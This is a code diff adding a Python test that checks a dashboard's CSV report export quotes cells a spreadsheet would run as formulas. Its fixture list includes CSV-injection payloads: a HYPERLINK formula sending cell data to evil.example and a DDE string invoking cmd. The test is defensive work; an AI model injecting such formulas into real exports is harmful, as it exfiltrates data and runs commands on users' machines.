@@ -163,3 +163,25 @@ def test_the_dashboard_is_behind_the_consoles_login(gateway, fake_service):
     assert html.count("<svg") == 3 and "<script>" not in html
     exported = gw.http.get("/dasbor/unduh.csv?bulan=2026-03")
     assert exported.mimetype == "text/csv" and "recording_web" in exported.get_data(as_text=True)
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted_as_text(gateway,
+                                                                        fake_service):
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0",
+                "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR"]
+    intake = {**INTAKE, "recording": {**INTAKE["recording"], "by_category": {
+        name: {"total": 1, "web": 1} for name in formulas}}}
+    summary = {**SUMMARY, "per_question": [
+        {"number": 1, "question": "=1+1", "count": 4, "mean": 4.0}]}
+    answering(fake_service, {**ANSWERS, "/api/v1/tickets/kpi": intake,
+                             "/api/v1/surveys/summary": summary})
+    gw = gateway()
+    response = gw.http.get("/api/v1/reports/kpi?from=2026-03-01&to=2026-03-31&format=csv",
+                           headers=gw.login("supervisor1"))
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
+    cells = [value for row in rows for value in row.values()]
+    split_values = {r["split_value"] for r in rows if r["split"] == "category"}
+    assert {"'" + name for name in formulas} <= split_values
+    assert "'=1+1" in {r["split_label"] for r in rows}
+    assert not [cell for cell in cells if cell and cell[0] in "=+-@\t\r"]
